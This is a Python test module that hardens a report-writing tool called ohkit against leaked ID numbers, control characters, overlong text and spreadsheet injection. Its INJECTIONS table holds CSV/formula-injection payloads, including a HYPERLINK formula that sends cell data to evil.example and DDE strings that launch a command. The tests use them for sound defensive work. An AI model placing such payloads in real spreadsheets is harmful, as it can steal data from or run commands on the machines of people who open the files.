"""Hardening corpus, output side: what the records hold must not leak or come alive in what
ohkit writes. Generated from the bundled stone-works example (CSV tables).

Every case runs through ``harness.run_case`` (no internal error, exit code, inputs
byte-identical, nothing written outside the output folder, no full ID number in the terminal
output or any file written — PDFs read back with pdftotext — and a time limit), plus the
family's own check:

* ``ids``: an ID number (ASCII, full-width, Arabic-Indic or Devanagari digits, lower-case x,
  full-width Ｘ, written in groups, glued to a name or to a letter) in every field a user
  types — firm name, principal, OH contact, phone, worker name, worker ID, post, workplace,
  document note, testing and exam body — for every output: validate and assess (text and
  JSON), due (text, JSON, ICS), report (HTML, PDF, XLSX, CSV), cards, portfolio (text, JSON,
  XLSX, CSV). Where the field is shown, its masked form must be there.
* ``formula``: formula and CSV-injection strings in the fields that reach the spreadsheets
  (action plan and portfolio, XLSX and CSV): no cell is a formula, text that starts like one
  is stored as text with the quote prefix (XLSX) or starts with ' (CSV).
* ``control``: C0 controls, ESC sequences, DEL, C1 and vertical tab/form feed in names: every
  writer succeeds and no control character (other than tab / line feed) is in any file.
* ``long``: long texts in names and notes: every output still written, in time.
"""
from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import pytest

from harness import Case, Result, chain, edit_cell, make_id, read_text, run_case, yaml_set

RAW = make_id("44530219850101234")          # 445302198501012344
MASKED = RAW[:6] + "********" + RAW[-4:]


def _digits(s: str, zero: int) -> str:
    return "".join(chr(zero + int(c)) if c.isdigit() else c for c in s)


# how the ID number is written -> the text typed into the field
VARIANTS = {
    "ascii": RAW,
    "fullwidth": _digits(RAW, 0xFF10),
    "arabic-indic": _digits(RAW, 0x0660),
    "devanagari": _digits(RAW, 0x0966),
    "glued": "张伟" + RAW,
    "letter": "W" + RAW,
    "grouped": f"{RAW[:6]} {RAW[6:14]} {RAW[14:]}",
}
X_ID = make_id("11010119900307002")  # ends in X? (not necessarily); the X variants below use one that does


def _x_id() -> str:
    for n in range(1000):
        s = make_id(f"110101199003{n:05d}")
        if s.endswith("X"):
            return s
    raise AssertionError("no X check digit found")


XID = _x_id()
X_VARIANTS = {"lower-x": XID[:-1] + "x", "fullwidth-X": XID[:-1] + "Ｘ"}
X_MASKED = XID[:6] + "********" + XID[-4:-1]


# ---------------------------------------------------------------------------
# Fields: where a user can type text, and how to put a value there
# ---------------------------------------------------------------------------

def _yaml_str(v: str) -> str:
    """A YAML double-quoted scalar; DEL and C1 as \\x escapes (YAML does not allow them raw)."""
    return re.sub("[\x7f-\x9f]", lambda m: "\\x%02x" % ord(m.group(0)), json.dumps(v, ensure_ascii=False))


def _oh_contact(v: str):
    def m(firm: Path) -> None:
        p = firm / "enterprise.yaml"
        text = read_text(p)
        text = re.sub(r"(?m)^(oh_manager:\s*\n\s+name:).*$", lambda mm: mm.group(1) + " " + _yaml_str(v), text)
        p.write_bytes(text.encode("utf-8"))
    return m


def _replace_in_tables(old: str, new: str):
    """Replace a value (e.g. worker ID XL03) in every CSV table of the firm."""
    def m(firm: Path) -> None:
        for p in firm.glob("*.csv"):
            rows = list(csv.reader(io.StringIO(read_text(p), newline="")))
            rows = [[new if c == old else c for c in r] for r in rows]
            buf = io.StringIO(newline="")
            csv.writer(buf, lineterminator="\r\n").writerows(rows)
            p.write_bytes(buf.getvalue().encode("utf-8"))
    return m


def _post_column(col: int, v: str):
    """Set a column of post S01 (both its rows) in posts.csv."""
    def m(firm: Path) -> None:
        p = firm / "posts.csv"
        rows = list(csv.reader(io.StringIO(read_text(p), newline="")))
        for r in rows[1:]:
            if r and r[0] == "S01":
                r[col] = v
        buf = io.StringIO(newline="")
        csv.writer(buf, lineterminator="\r\n").writerows(rows)
        p.write_bytes(buf.getvalue().encode("utf-8"))
    return m


FIELDS = {
    "firm-name": lambda v: yaml_set("name", _yaml_str(v)),
    "principal": lambda v: yaml_set("principal", _yaml_str(v)),
    "oh-contact": _oh_contact,
    "phone": lambda v: yaml_set("contact_phone", _yaml_str(v)),
    "worker-name": lambda v: edit_cell("workers.csv", 8, 1, v),    # XL07 李春生 (EXAM-10 open: in every output)
    "worker-id": lambda v: _replace_in_tables("XL07", v),
    "post-name": lambda v: _post_column(1, v),
    "workplace": lambda v: _post_column(2, v),
    "document-note": lambda v: edit_cell("documents.csv", 2, 3, v),
    "testing-body": lambda v: edit_cell("monitoring.csv", 2, 2, v),
    "exam-body": lambda v: edit_cell("exams.csv", 2, 3, v),
    "hire-date": lambda v: edit_cell("workers.csv", 2, 5, v),
}

# Fields each output shows (the masked form must be there, so the check cannot pass by
# the field simply not being printed).
SHOWN = {
    "assess-json": {"firm-name", "principal", "oh-contact", "phone", "worker-name", "worker-id", "post-name",
                    "workplace"},
    "report": {"firm-name", "worker-name", "worker-id", "post-name"},
    "card": {"firm-name", "oh-contact", "phone", "post-name", "workplace"},
    "portfolio": {"firm-name"},
}

OUTPUTS = {
    "validate": ("validate", "{firm}"),
    "validate-json": ("validate", "{firm}", "-o", "json"),
    "assess": ("assess", "{firm}", "--no-input"),
    "assess-json": ("assess", "{firm}", "-o", "json"),
    "due-ics": ("due", "{firm}", "--within", "400d", "--ics", "{out}/due.ics"),
    "due-json": ("due", "{firm}", "-o", "json", "--within", "400d"),
}
SLOW_OUTPUTS = {
    "report": ("report", "{firm}", "-O", "{out}"),
    "card": ("card", "{firm}", "-O", "{out}"),
    "card-600x400": ("card", "{firm}", "-O", "{out}", "--size", "600x400"),
    "portfolio": ("portfolio", "{firm}/..", "-O", "{out}"),
}


def _all_text(res: Result) -> str:
    """Terminal output and every file written, as text (PDFs through pdftotext)."""
    from harness import _texts_of

    parts = [res.output]
    for p in res.files_written:
        parts.extend(_texts_of(p, True))
    return "\n".join(parts)


def _expect_masked(masked: str):
    def check(res: Result) -> None:
        text = _all_text(res)
        assert masked in text, f"the masked form {masked} is not in the outputs of {res.case.id}"
    return check


def _ids() -> list[Case]:
    cases: list[Case] = []
    names = list(VARIANTS)
    for fi, (field, setter) in enumerate(FIELDS.items()):
        for oi, (out, argv) in enumerate(OUTPUTS.items()):
            variant = names[(fi + oi) % len(names)]
            check = _expect_masked(MASKED) if field in SHOWN.get(out, ()) else None
            cases.append(Case("ids", f"{field}-{variant}-{out}", setter(VARIANTS[variant]), argv,
                              exit={0, 1}, check=check))
        for xi, (xname, xval) in enumerate(X_VARIANTS.items()):
            out = "assess-json" if xi == 0 else "validate-json"
            check = _expect_masked(X_MASKED) if field in SHOWN.get(out, ()) else None
            cases.append(Case("ids", f"{field}-{xname}-{out}", setter(xval), OUTPUTS[out], exit={0, 1}, check=check))
    # The slow writers (PDF): every field at once, each written another way, so one run of the
    # report, the cards or the portfolio covers them all.
    every = chain(*(setter(VARIANTS[names[i % len(names)]]) for i, setter in enumerate(FIELDS.values())))
    for out, lang in (("report", None), ("report", "en"), ("card", None), ("card-600x400", "en"),
                      ("portfolio", None), ("portfolio", "en")):
        argv = SLOW_OUTPUTS[out]
        cases.append(Case("ids", f"every-field-{out}{'-en' if lang else ''}", every, argv, exit={0, 1}, lang=lang,
                          scan_pdf=True, check=_expect_masked(MASKED), marks=(pytest.mark.slow,)))
    return cases


# ---------------------------------------------------------------------------
# Formula / CSV injection
# ---------------------------------------------------------------------------

INJECTIONS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1,1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "error-code": "#N/A",
    "fullwidth-eq": "＝1+1",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _sheet_cells(path: Path) -> list[tuple[str, object, object]]:
    """(sheet, cell, value) of every cell of an XLSX, with openpyxl."""
    from openpyxl import load_workbook

    wb = load_workbook(path)
    return [(ws.title, c, c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def _needle(text: str) -> str:
    """The part of an injected text that must reach a cell (after a neutralising quote)."""
    return text.strip("\t\r").lstrip("=+-@")[:8] or text


def _check_inert(*needles: str):
    """No formula anywhere; each injected text is in the sheets, inert."""
    def check(res: Result) -> None:
        sheets = [p for p in res.files_written if p.suffix == ".xlsx"]
        csvs = [p for p in res.files_written if p.suffix == ".csv"]
        assert sheets and csvs, f"no spreadsheets written: {res.files_written}"
        found = {n: 0 for n in needles}
        for p in sheets:
            with zipfile.ZipFile(p) as z:
                for n in z.namelist():
                    if n.startswith("xl/worksheets/sheet"):
                        body = z.read(n)
                        assert b"<f>" not in body and b"<f " not in body, f"a formula in {p.name}:{n}"
            for sheet, c, v in _sheet_cells(p):
                assert c.data_type != "f", f"{p.name}[{sheet}]{c.coordinate} is a formula: {v!r}"
                if isinstance(v, str) and v.startswith(FORMULA_START):
                    assert c.data_type == "s" and c.quotePrefix, f"{p.name}{c.coordinate} {v!r} not marked as text"
                for n in needles:
                    if isinstance(v, str) and n in v:
                        found[n] += 1
        for p in csvs:
            for row in csv.reader(io.StringIO(p.read_bytes().decode("utf-8-sig"), newline="")):
                for cell in row:
                    assert not cell.startswith(FORMULA_START), f"{p.name}: live cell {cell!r}"
                    for n in needles:
                        if n in cell:
                            found[n] += 1
        missing = [n for n, k in found.items() if not k]
        assert not missing, f"the injected texts {missing!r} reached no spreadsheet cell"
    return check


WRITERS = {"report": ("report", "{firm}", "-O", "{out}"),
           "portfolio": ("portfolio", "{firm}/..", "-O", "{out}")}


def _formula() -> list[Case]:
    cases = []
    # The portfolio (fast): every string as the firm name and as an unreadable value it quotes.
    for field in ("firm-name", "hire-date"):
        for iname, text in INJECTIONS.items():
            lang = "en" if iname in ("plus", "tab") else None
            cases.append(Case("formula", f"{field}-{iname}-portfolio{'-en' if lang else ''}", FIELDS[field](text),
                              WRITERS["portfolio"], exit={0, 1}, lang=lang, check=_check_inert(_needle(text))))
    # The action plan (with the PDF report, slow): three strings at once, in the firm name
    # (title row), a post and a worker (the "who" column).
    names = list(INJECTIONS)
    for k in range(3):
        picked = [names[(3 * k + j) % len(names)] for j in range(3)]
        texts = [INJECTIONS[n] for n in picked]
        m = chain(FIELDS["firm-name"](texts[0]), FIELDS["post-name"](texts[1]), FIELDS["worker-name"](texts[2]))
        lang = "en" if k == 1 else None
        cases.append(Case("formula", f"{'+'.join(picked)}-report{'-en' if lang else ''}", m, WRITERS["report"],
                          exit={0, 1}, lang=lang, check=_check_inert(*(_needle(t) for t in texts)),
                          marks=(pytest.mark.slow,)))
    return cases


# ---------------------------------------------------------------------------
# Control characters
# ---------------------------------------------------------------------------

CONTROLS = {
    "nul-bel": "张\x00三\x07",
    "esc-colour": "李四\x1b[31m红\x1b[0m",
    "del": "王五\x7f",
    "c1": "赵六\x85\x9b",
    "vt-ff": "钱七\x0b\x0c",
    "backspace": "孙八\x08\x08",
}
BAD_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def _check_no_controls(res: Result) -> None:
    if res.exit_code == 2:  # a table with NUL bytes is refused as not text: nothing may be written
        assert not res.files_written, res.files_written
        return
    assert res.files_written, "nothing written"
    for p in res.files_written:
        if p.suffix in (".pdf",):
            continue
        data = p.read_bytes()
        if p.suffix == ".xlsx":
            with zipfile.ZipFile(p) as z:
                texts = [z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".xml")]
        else:
            texts = [data.decode("utf-8-sig").replace("\r\n", "\n")]
        for t in texts:
            m = BAD_CONTROL.search(t)
            assert m is None, f"{p.name}: control character {m.group(0)!r} at {m.start()}"


CONTROL_OUTPUTS = {
    "report": ("report", "{firm}", "-O", "{out}"),
    "portfolio": ("portfolio", "{firm}/..", "-O", "{out}"),
    "due-ics": ("due", "{firm}", "--within", "400d", "--ics", "{out}/due.ics"),
}


def _control() -> list[Case]:
    cases = []
    for field in ("firm-name", "worker-name", "post-name"):
        for cname, text in CONTROLS.items():
            if field == "firm-name":
                text = text.replace("\x00", "")  # YAML cannot hold NUL; the other controls stay (escaped)
            for out, argv in CONTROL_OUTPUTS.items():
                if out == "report":
                    continue
                refused = "\x00" in text and out == "due-ics"  # NUL in a CSV: not a text file, due refuses
                cases.append(Case("control", f"{field}-{cname}-{out}", FIELDS[field](text), argv,
                                  exit=2 if refused else {0, 1}, located=r"workers\.csv|posts\.csv" if refused else None,
                                  check=_check_no_controls))
            cases.append(Case("control", f"{field}-{cname}-assess-json", FIELDS[field](text),
                              ("assess", "{firm}", "-o", "json"), exit={0, 1}))
    # The report (slow): every field with a control character at once, zh and en.
    ctl = list(CONTROLS.values())
    m = chain(FIELDS["firm-name"](ctl[1]), FIELDS["worker-name"](ctl[5]), FIELDS["post-name"](ctl[3]),
              FIELDS["workplace"](ctl[4]), FIELDS["document-note"](ctl[2]))
    for lang in (None, "en"):
        cases.append(Case("control", f"every-field-report{'-en' if lang else ''}", m, CONTROL_OUTPUTS["report"],
                          exit={0, 1}, lang=lang, check=_check_no_controls, marks=(pytest.mark.slow,)))
    return cases


# ---------------------------------------------------------------------------
# Long texts
# ---------------------------------------------------------------------------

LONG = {"2k-cjk": "长" * 2000, "5k-word": ("Lorem ipsum " * 420)[:5000], "nobreak-3k": "A" * 3000}


def _long() -> list[Case]:
    cases = []
    for field in ("firm-name", "worker-name", "post-name", "document-note"):
        for tname, text in LONG.items():
            for out, argv in (("portfolio", SLOW_OUTPUTS["portfolio"]), ("assess-json", OUTPUTS["assess-json"])):
                cases.append(Case("long", f"{field}-{tname}-{out}", FIELDS[field](text), argv, exit={0, 1}))
    # The PDFs (slow): long texts everywhere at once. A 2,000-character firm name repeated in
    # every page header took WeasyPrint ten minutes; the header and the card now show it shortened.
    m = chain(FIELDS["firm-name"](LONG["2k-cjk"]), FIELDS["worker-name"](LONG["nobreak-3k"]),
              FIELDS["post-name"](LONG["5k-word"][:300]), FIELDS["document-note"](LONG["5k-word"]),
              FIELDS["oh-contact"](LONG["2k-cjk"][:500]))
    for out in ("report", "card", "card-600x400"):
        cases.append(Case("long", f"every-field-{out}", m, SLOW_OUTPUTS[out], exit={0, 1}, timeout=90.0,
                          marks=(pytest.mark.slow,)))
    return cases


FAMILIES = _ids() + _formula() + _control() + _long()


@pytest.mark.parametrize("case", [c.param() for c in FAMILIES])
def test_corpus_output(case: Case, tmp_path) -> None:
    run_case(case, tmp_path)


def test_corpus_size() -> None:
    """The output families add at least 120 cases to the corpus."""
    by: dict[str, int] = {}
    for c in FAMILIES:
        by[c.family] = by.get(c.family, 0) + 1
    assert sum(by.values()) >= 120, by
    assert set(by) == {"ids", "formula", "control", "long"}
